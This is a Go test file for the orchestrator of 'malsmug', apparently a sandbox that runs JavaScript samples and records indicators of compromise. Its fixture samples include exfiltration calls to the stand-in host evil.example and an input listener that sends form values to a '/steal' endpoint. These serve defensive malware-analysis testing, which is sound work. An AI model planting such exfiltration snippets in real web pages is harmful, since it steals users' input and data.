package analysis

import (
	"context"
	"errors"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/mock"
	"github.com/stretchr/testify/require"

	"github.com/GriffinCanCode/malsmug/internal/bridge"
	"github.com/GriffinCanCode/malsmug/internal/hooks"
	"github.com/GriffinCanCode/malsmug/internal/ioc"
	"github.com/GriffinCanCode/malsmug/internal/logging"
	"github.com/GriffinCanCode/malsmug/internal/sandbox"
	"github.com/GriffinCanCode/malsmug/internal/sandbox/netclient"
	"github.com/GriffinCanCode/malsmug/internal/shared/hash"
)

const origin = "https://bait.example/"

type mockPublisher struct {
	mock.Mock
	mu      sync.Mutex
	records []ioc.Record
}

func (m *mockPublisher) Publish(ctx context.Context, topic string, rec ioc.Record) error {
	m.mu.Lock()
	m.records = append(m.records, rec)
	m.mu.Unlock()
	args := m.Called(ctx, topic, rec)
	return args.Error(0)
}

func (m *mockPublisher) published() []ioc.Record {
	m.mu.Lock()
	defer m.mu.Unlock()
	return append([]ioc.Record(nil), m.records...)
}

func acceptingPublisher() *mockPublisher {
	pub := &mockPublisher{}
	pub.On("Publish", mock.Anything, "results", mock.Anything).Return(nil)
	return pub
}

func writeSample(t *testing.T, source string) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "sample.js")
	require.NoError(t, os.WriteFile(path, []byte(source), 0o644))
	return path
}

func testOptions() Options {
	opts := DefaultOptions()
	opts.Topic = "results"
	opts.DrainCeiling = 50 * time.Millisecond
	opts.DrainBuffer = 10 * time.Millisecond
	return opts
}

func offlineHost() *sandbox.Host {
	return sandbox.NewHost(sandbox.Options{EvalTimeout: 2 * time.Second}, netclient.Offline{}, nil, nil, nil)
}

func newOrchestrator(host Launcher, pub Publisher, opts Options) *Orchestrator {
	return New(host, pub, opts, nil, logging.NewNop())
}

func TestRunSuccess(t *testing.T) {
	source := `localStorage.setItem("a", "b"); fetch("https://evil.example/exfil");`
	path := writeSample(t, source)
	pub := acceptingPublisher()

	out := newOrchestrator(offlineHost(), pub, testOptions()).Run(context.Background(), Job{
		SamplePath: path,
		Origin:     origin,
		AnalysisID: "ana-1",
	})

	require.NoError(t, out.Err)
	assert.Equal(t, Succeeded, out.State)
	assert.Equal(t, 0, out.ExitCode())
	assert.Equal(t, []State{
		Launching, SessionReady, Hooked, SampleExecuting, Luring, Draining, Finalizing, Succeeded,
	}, out.Trace)

	pub.AssertNumberOfCalls(t, "Publish", 1)
	res, ok := pub.published()[0].(*ioc.AnalysisResult)
	require.True(t, ok)
	assert.Same(t, res, out.Record)
	assert.Equal(t, "ana-1", res.AnalysisID)
	assert.Equal(t, hash.Default().SumString(source), res.FileHash)
	assert.Empty(t, res.Error)

	calls := res.OfKind(ioc.KindFunctionCall)
	require.Len(t, calls, 1)
	assert.Equal(t, ioc.FunctionCall{Callee: "localStorage.setItem", Arguments: []string{"a", "b"}}, calls[0].Payload)

	reqs := res.OfKind(ioc.KindHTTPRequest)
	require.Len(t, reqs, 1)
	assert.Equal(t, ioc.HTTPRequest{Method: "GET", URL: "https://evil.example/exfil"}, reqs[0].Payload)

	// the origin's own response is observed before hooks are installed
	assert.GreaterOrEqual(t, res.Count(ioc.KindHTTPResponse), 1)
	for _, i := range res.IoCs {
		assert.Equal(t, origin, i.ExecutedOn)
		assert.False(t, i.Timestamp.IsZero())
	}

	_, err := os.Stat(path)
	assert.NoError(t, err, "sample kept unless removal is enabled")
}

func TestRunSyntaxError(t *testing.T) {
	pub := acceptingPublisher()
	out := newOrchestrator(offlineHost(), pub, testOptions()).Run(context.Background(), Job{
		SamplePath: writeSample(t, `localStorage.setItem("a", "b"); function (`),
		Origin:     origin,
		AnalysisID: "ana-2",
	})

	assert.Equal(t, Failed, out.State)
	assert.Equal(t, 1, out.ExitCode())
	assert.Equal(t, []State{Launching, SessionReady, Hooked, SampleExecuting, Finalizing, Failed}, out.Trace)

	pub.AssertNumberOfCalls(t, "Publish", 1)
	f, ok := pub.published()[0].(ioc.Failure)
	require.True(t, ok)
	assert.Equal(t, ioc.FailureSyntax, f.Kind)
	assert.True(t, strings.HasPrefix(f.String(), "error analysing sample: SyntaxError: "))
	assert.NotContains(t, f.Description, "SyntaxError")
}

func TestRunThrownSyntaxErrorKeepsIoCs(t *testing.T) {
	samples := []string{
		`localStorage.setItem("a", "b"); throw new SyntaxError("bad")`,
		`localStorage.setItem("a", "b"); eval("function (")`,
	}
	for _, sample := range samples {
		t.Run(sample, func(t *testing.T) {
			pub := acceptingPublisher()
			out := newOrchestrator(offlineHost(), pub, testOptions()).Run(context.Background(), Job{
				SamplePath: writeSample(t, sample),
				Origin:     origin,
			})

			assert.Equal(t, Failed, out.State)
			assert.Contains(t, out.Trace, Luring)
			res, ok := pub.published()[0].(*ioc.AnalysisResult)
			require.True(t, ok)
			assert.Contains(t, res.Error, "SyntaxError")
			calls := res.OfKind(ioc.KindFunctionCall)
			require.NotEmpty(t, calls)
			assert.Equal(t, "localStorage.setItem", calls[0].Payload.(ioc.FunctionCall).Callee)
		})
	}
}

func TestRunRuntimeErrorKeepsIoCs(t *testing.T) {
	pub := acceptingPublisher()
	out := newOrchestrator(offlineHost(), pub, testOptions()).Run(context.Background(), Job{
		SamplePath: writeSample(t, `localStorage.setItem("k", "v"); throw new Error("boom");`),
		Origin:     origin,
		AnalysisID: "ana-3",
	})

	assert.Equal(t, Failed, out.State)
	require.Error(t, out.Err)
	assert.Contains(t, out.Trace, Luring)
	assert.Contains(t, out.Trace, Draining)

	res, ok := pub.published()[0].(*ioc.AnalysisResult)
	require.True(t, ok)
	assert.Contains(t, res.Error, "boom")
	assert.Equal(t, 1, res.Count(ioc.KindFunctionCall))
}

func TestRunHookInstallationFailure(t *testing.T) {
	pub := acceptingPublisher()
	o := newOrchestrator(offlineHost(), pub, testOptions())
	o.install = func(context.Context, hooks.Target, bridge.Names, *logging.Logger) error {
		return hooks.ErrInstall
	}

	out := o.Run(context.Background(), Job{
		SamplePath: writeSample(t, `fetch("https://evil.example/")`),
		Origin:     origin,
		AnalysisID: "ana-4",
	})

	assert.Equal(t, Failed, out.State)
	assert.ErrorIs(t, out.Err, hooks.ErrInstall)
	assert.Equal(t, []State{Launching, SessionReady, Finalizing, Failed}, out.Trace)

	f, ok := pub.published()[0].(ioc.Failure)
	require.True(t, ok)
	assert.Equal(t, ioc.FailureHookInstallation, f.Kind)
}

type failingLauncher struct{}

func (failingLauncher) Launch(context.Context) (*sandbox.Session, error) {
	return nil, errors.New("no browser")
}

func TestRunLaunchFailurePublishesOnce(t *testing.T) {
	pub := acceptingPublisher()
	out := newOrchestrator(failingLauncher{}, pub, testOptions()).Run(context.Background(), Job{
		SamplePath: writeSample(t, `1`),
		Origin:     origin,
		AnalysisID: "ana-5",
	})

	assert.Equal(t, Failed, out.State)
	assert.Equal(t, []State{Launching, Finalizing, Failed}, out.Trace)
	pub.AssertNumberOfCalls(t, "Publish", 1)
	f, ok := pub.published()[0].(ioc.Failure)
	require.True(t, ok)
	assert.Equal(t, ioc.FailureSession, f.Kind)
}

func TestRunPublishFailure(t *testing.T) {
	pub := &mockPublisher{}
	pub.On("Publish", mock.Anything, "results", mock.Anything).Return(errors.New("broker down"))

	out := newOrchestrator(offlineHost(), pub, testOptions()).Run(context.Background(), Job{
		SamplePath: writeSample(t, `1 + 1`),
		Origin:     origin,
		AnalysisID: "ana-6",
	})

	assert.Equal(t, Failed, out.State)
	assert.ErrorContains(t, out.Err, "broker down")
	_, ok := out.Record.(*ioc.AnalysisResult)
	assert.True(t, ok)
}

func TestDrainHonorsCappedDelays(t *testing.T) {
	tests := []struct {
		name   string
		sample string
		want   time.Duration
	}{
		{name: "no timers", sample: `1`, want: 10 * time.Millisecond},
		{name: "short timer", sample: `setTimeout(function () {}, 20)`, want: 30 * time.Millisecond},
		{name: "longest wins", sample: `setTimeout(function () {}, 5); setTimeout(function () {}, 40)`, want: 50 * time.Millisecond},
		{name: "capped", sample: `setTimeout(function () {}, 3600000)`, want: 60 * time.Millisecond},
		{name: "past int32", sample: `setTimeout(function () {}, 2147483648)`, want: 60 * time.Millisecond},
		{name: "past duration range", sample: `setTimeout(function () {}, 1e13)`, want: 60 * time.Millisecond},
		{name: "infinity", sample: `setTimeout(function () {}, Infinity)`, want: 60 * time.Millisecond},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			o := newOrchestrator(offlineHost(), acceptingPublisher(), testOptions())
			var slept time.Duration
			o.sleep = func(_ context.Context, d time.Duration) { slept = d }

			out := o.Run(context.Background(), Job{SamplePath: writeSample(t, tt.sample), Origin: origin})
			require.NoError(t, out.Err)
			assert.Equal(t, tt.want, slept)
		})
	}
}

func TestDelayedBehaviorIsObserved(t *testing.T) {
	opts := testOptions()
	opts.DrainCeiling = time.Second
	opts.DrainBuffer = 300 * time.Millisecond
	pub := acceptingPublisher()

	out := newOrchestrator(offlineHost(), pub, opts).Run(context.Background(), Job{
		SamplePath: writeSample(t, `setTimeout(function () { fetch("https://evil.example/late") }, 50)`),
		Origin:     origin,
	})
	require.NoError(t, out.Err)

	res := out.Record.(*ioc.AnalysisResult)
	reqs := res.OfKind(ioc.KindHTTPRequest)
	require.Len(t, reqs, 1)
	assert.Equal(t, "https://evil.example/late", reqs[0].Payload.(ioc.HTTPRequest).URL)
	assert.Equal(t, 1, res.Count(ioc.KindSetTimeout))
}

func TestLureProvokesInteractionGatedBehavior(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		if r.URL.Path == "/" {
			_, _ = w.Write([]byte(`<html><body><form action="/login"><input name="user"></form></body></html>`))
		}
	}))
	defer srv.Close()

	host := sandbox.NewHost(sandbox.Options{EvalTimeout: 2 * time.Second},
		netclient.New(netclient.Options{Timeout: time.Second}), nil, nil, nil)
	sample := `
		document.querySelector("input").addEventListener("change", function () {
			fetch("` + srv.URL + `/steal?v=" + this.value);
		});
		document.forms[0].addEventListener("submit", function () {});
	`
	pub := acceptingPublisher()
	out := newOrchestrator(host, pub, testOptions()).Run(context.Background(), Job{
		SamplePath: writeSample(t, sample),
		Origin:     srv.URL + "/",
	})
	require.NoError(t, out.Err)

	res := out.Record.(*ioc.AnalysisResult)
	reqs := res.OfKind(ioc.KindHTTPRequest)
	require.Len(t, reqs, 1)
	assert.Equal(t, srv.URL+"/steal?v=fake_input_from_sandbox_0", reqs[0].Payload.(ioc.HTTPRequest).URL)
	assert.Equal(t, 2, res.Count(ioc.KindAddEventListener))
}

func TestRunRemovesSample(t *testing.T) {
	opts := testOptions()
	opts.RemoveSample = true
	path := writeSample(t, `1`)

	out := newOrchestrator(offlineHost(), acceptingPublisher(), opts).Run(context.Background(), Job{
		SamplePath: path,
		Origin:     origin,
	})
	require.NoError(t, out.Err)

	_, err := os.Stat(path)
	assert.True(t, os.IsNotExist(err))
}

func TestConcurrentRunsAreIndependent(t *testing.T) {
	host := offlineHost()
	pub := acceptingPublisher()
	o := newOrchestrator(host, pub, testOptions())
	path := writeSample(t, `document.cookie = "n=" + Math.random(); localStorage.setItem("a", document.cookie);`)

	const runs = 4
	outcomes := make([]Outcome, runs)
	var wg sync.WaitGroup
	for i := 0; i < runs; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			outcomes[i] = o.Run(context.Background(), Job{SamplePath: path, Origin: origin})
		}(i)
	}
	wg.Wait()

	pub.AssertNumberOfCalls(t, "Publish", runs)
	for _, out := range outcomes {
		require.NoError(t, out.Err)
		res := out.Record.(*ioc.AnalysisResult)
		assert.Equal(t, 1, res.Count(ioc.KindSetCookie))
		assert.Equal(t, 1, res.Count(ioc.KindGetCookie))
		assert.Equal(t, 1, res.Count(ioc.KindFunctionCall))
		// each jar holds only its own run's cookie
		get := res.OfKind(ioc.KindGetCookie)[0].Payload.(ioc.GetCookie)
		assert.Equal(t, 1, strings.Count(get.Cookie, "n="))
	}
}

func TestStateNames(t *testing.T) {
	assert.Equal(t, "session_ready", SessionReady.String())
	assert.True(t, Failed.Terminal())
	assert.False(t, Finalizing.Terminal())
	assert.Equal(t, "unknown", State(42).String())
}
